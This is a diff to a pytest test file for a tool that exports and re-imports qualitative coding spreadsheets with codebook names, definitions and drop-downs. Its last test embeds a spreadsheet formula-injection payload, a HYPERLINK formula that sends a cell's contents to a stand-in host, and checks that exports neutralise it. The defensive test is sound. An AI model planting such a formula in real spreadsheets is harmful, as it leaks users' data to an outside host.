@@ -15,6 +15,7 @@ import pandas as pd
 import pytest
 
 from postkit.coding.chain import CHAINED, EXPECTED_TRIGGERS, row_hash
+from postkit.coding.codebook import load_codebook
 from postkit.coding.store import (SCHEMA_VERSION, CodingStore, StoreReplacedError, export_sheet, import_sheet,
                                   verify_store)
 from postkit.errors import PostkitError
@@ -294,8 +295,9 @@ def test_sheet_round_trip_and_idempotent(store: CodingStore, tmp_path: Path, fmt
     sheet = tmp_path / f"ann.{fmt}"
     assert export_sheet(store, sheet, "ann") == 3
     frame = _read(sheet)
-    assert list(frame.columns) == ["unit_id", "post_id", "text", "code_id", "suggested", "score", "evidence",
-                                   "decision", "memo"]
+    assert list(frame.columns) == ["unit_id", "post_id", "text", "code_id", "code_name", "definition", "suggested",
+                                   "score", "evidence", "decision", "memo"]
+    assert frame["code_name"].tolist() == ["", "", ""]  # these test codes are not in the codebook
     assert frame["code_id"].tolist() == ["ISOLATION", "SUPPORT", "HOPELESS"]
     assert frame["suggested"].tolist() == ["yes", "yes", "yes"]
     assert frame.loc[0, "evidence"] == "alone"
@@ -305,7 +307,8 @@ def test_sheet_round_trip_and_idempotent(store: CodingStore, tmp_path: Path, fmt
     frame.loc[0, ["decision", "memo"]] = ["accept", "strong"]
     frame.loc[1, "decision"] = "Reject"  # case is forgiven
     new = frame.iloc[[1]].copy()
-    new[["code_id", "suggested", "score", "evidence", "decision", "memo"]] = ["FAMILY", "", "", "", "add", ""]
+    new[["code_id", "code_name", "definition", "suggested", "score", "evidence", "decision", "memo"]] = [
+        "FAMILY", "", "", "", "", "", "add", ""]
     frame = pd.concat([frame, new], ignore_index=True)
     _write(frame, sheet)
 
@@ -367,8 +370,10 @@ def test_bad_sheet_rows_abort_whole_import(store: CodingStore, tmp_path: Path) -
         import_sheet(store, sheet, "ann")
     err = info.value
     assert err.path == str(sheet)
-    assert any(line.startswith("row 3:") and "yes please" in line for line in err.details)
-    assert any(line.startswith("row 4:") and "p9#9" in line for line in err.details)
+    # Rows and columns are named; what the coder typed is never repeated (it may hold a quote).
+    assert any(line.startswith("row 3, column 'decision'") for line in err.details)
+    assert any(line.startswith("row 4, column 'unit_id'") for line in err.details)
+    assert not any("yes please" in line or "p9#9" in line for line in err.details)
     assert store.decisions().empty
 
 
@@ -397,6 +402,112 @@ def test_sheet_errors(store: CodingStore, tmp_path: Path) -> None:
     if not importlib.util.find_spec("openpyxl"):
         with pytest.raises(PostkitError, match="openpyxl"):
             export_sheet(store, tmp_path / "sheet.xlsx", "ann")
+
+
+@pytest.fixture
+def cmo_store(tmp_path: Path):
+    """A store whose suggestions are codes of the packaged codebook (and one that is not)."""
+    with CodingStore(tmp_path / "cmo.sqlite") as s:
+        s.add_excerpts(EXCERPTS)
+        s.add_suggestions([{"unit_id": "p1#0", "code_id": "UA-C3", "score": 0.8, "evidence": []},
+                           {"unit_id": "p1#1", "code_id": "SE-C5", "score": 0.6, "evidence": []},
+                           {"unit_id": "p2#0", "code_id": "OLD-C9", "score": 0.5, "evidence": []}],
+                          codebook_version="v1")
+        yield s
+
+
+@pytest.mark.parametrize("fmt", SHEET_FORMATS)
+def test_sheet_names_each_code_and_gives_its_definition(cmo_store: CodingStore, tmp_path: Path, fmt: str) -> None:
+    book = load_codebook()
+    sheet = tmp_path / f"ann.{fmt}"
+    export_sheet(cmo_store, sheet, "ann")
+    frame = _read(sheet)
+    assert frame[["code_id", "code_name", "definition"]].values.tolist() == [
+        ["UA-C3", book.code("UA-C3").name, book.code("UA-C3").definition],
+        ["SE-C5", book.code("SE-C5").name, book.code("SE-C5").definition],
+        ["OLD-C9", "", ""]]  # a code the codebook no longer holds: no name made up
+    # Another codebook (`--codebook`) names the codes its own way.
+    other = tmp_path / "book.yaml"
+    other.write_text(book.path.read_text(encoding="utf-8").replace(
+        'name: "Peers with lived experience"', 'name: "Peers who have been there"'), encoding="utf-8")
+    export_sheet(cmo_store, sheet, "ann", codebook=load_codebook(other))
+    assert _read(sheet)["code_name"].tolist()[1] == "Peers who have been there"
+
+
+@pytest.mark.skipif(not importlib.util.find_spec("openpyxl"), reason="needs openpyxl")
+def test_xlsx_sheet_has_a_decision_drop_down_and_a_codebook_tab(cmo_store: CodingStore, tmp_path: Path) -> None:
+    import openpyxl
+
+    sheet = tmp_path / "ann.xlsx"
+    export_sheet(cmo_store, sheet, "ann")
+    workbook = openpyxl.load_workbook(sheet)
+    assert workbook.sheetnames == ["coding", "codebook"]
+    coding = workbook["coding"]
+    header = [cell.value for cell in coding[1]]
+    decision = openpyxl.utils.get_column_letter(header.index("decision") + 1)
+    code_id = openpyxl.utils.get_column_letter(header.index("code_id") + 1)
+    rules = {str(dv.sqref): dv for dv in coding.data_validations.dataValidation}
+    drop_down = rules[f"{decision}2:{decision}1048576"]  # rows a coder adds get it too
+    assert drop_down.type == "list" and drop_down.formula1 == '"accept,reject,add,remove"'
+    assert drop_down.allow_blank and drop_down.showErrorMessage and not drop_down.showDropDown
+    codes = rules[f"{code_id}2:{code_id}1048576"]
+    book = load_codebook()
+    n_codes = len(list(book.codes()))
+    assert codes.formula1 == f"codebook!$A$2:$A${n_codes + 1}" and not codes.showErrorMessage  # old ids allowed
+    tab = pd.read_excel(sheet, sheet_name="codebook", dtype=str, keep_default_na=False)
+    assert len(tab) == n_codes
+    five = tab[tab["code_id"] == "SE-C5"].iloc[0]
+    assert (five["name"], five["include"], five["exclude"]) == (
+        book.code("SE-C5").name, book.code("SE-C5").include, book.code("SE-C5").exclude)
+    # Filled in and imported, with the codebook tab moved first: decisions come from the coding tab.
+    coding.cell(row=2, column=header.index("decision") + 1, value="accept")
+    coding.cell(row=3, column=header.index("decision") + 1, value="reject")
+    workbook.move_sheet("codebook", offset=-1)
+    workbook.save(sheet)
+    assert import_sheet(cmo_store, sheet, "ann") == 2
+    assert cmo_store.codings()[["code_id", "action"]].values.tolist() == [["UA-C3", "accept"], ["SE-C5", "reject"]]
+
+
+@pytest.mark.parametrize("fmt", SHEET_FORMATS)
+def test_sheets_in_the_old_layout_still_import(cmo_store: CodingStore, tmp_path: Path, fmt: str) -> None:
+    """A sheet exported before code_name and definition existed (nine columns)."""
+    old = pd.DataFrame([["p1#0", "p1", "I felt so alone.", "UA-C3", "yes", "0.8", "", "accept", "not alone"],
+                        ["p2#0", "p2", "Nothing helps.", "OLD-C9", "yes", "0.5", "", "Reject", ""]],
+                       columns=["unit_id", "post_id", "text", "code_id", "suggested", "score", "evidence",
+                                "decision", "memo"])
+    sheet = tmp_path / f"old.{fmt}"
+    _write(old, sheet)
+    assert import_sheet(cmo_store, sheet, "ann") == 2
+    got = cmo_store.codings()[["unit_id", "code_id", "action", "memo"]].values.tolist()
+    assert [row[:3] for row in got] == [["p1#0", "UA-C3", "accept"], ["p2#0", "OLD-C9", "reject"]]
+    assert got[0][3] == "not alone"
+
+
+@pytest.mark.parametrize("fmt", SHEET_FORMATS)
+def test_post_text_never_becomes_a_spreadsheet_formula(tmp_path: Path, fmt: str) -> None:
+    hostile = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
+    with CodingStore(tmp_path / "coding.sqlite") as store:
+        store.add_excerpts([{"unit_id": "u1", "post_id": "p1", "text": hostile},
+                            {"unit_id": "u2", "post_id": "p2", "text": "- a list, not a sum"}])
+        store.add_suggestions([{"unit_id": "u1", "code_id": "SE-C5", "score": 0.5,
+                                "evidence": [{"start": 0, "end": 10, "text": hostile[:10]}]}], codebook_version="v1")
+        store.decide("u1", "SE-C5", "ann", "accept", "=1+1 is how they put it")
+        sheet = tmp_path / f"ann.{fmt}"
+        export_sheet(store, sheet, "ann")
+        if fmt == "xlsx":
+            import openpyxl
+
+            cells = [cell for row in openpyxl.load_workbook(sheet)["coding"].iter_rows() for cell in row]
+            assert all(cell.data_type != "f" for cell in cells)
+            frame = _read(sheet)
+            assert frame["text"].tolist() == [hostile, "- a list, not a sum"]  # stored as text, unchanged
+            assert frame["memo"].tolist()[0] == "=1+1 is how they put it"
+        else:
+            frame = _read(sheet)
+            assert frame["text"].tolist() == ["'" + hostile, "'- a list, not a sum"]
+            assert frame["evidence"].tolist()[0] == "'" + hostile[:10]
+        assert import_sheet(store, sheet, "ann") == 0  # the coder's own memo comes back unchanged
+        assert store.codings()["memo"].tolist() == ["=1+1 is how they put it"]
 
 
 # -- reviews ------------------------------------------------------------------------
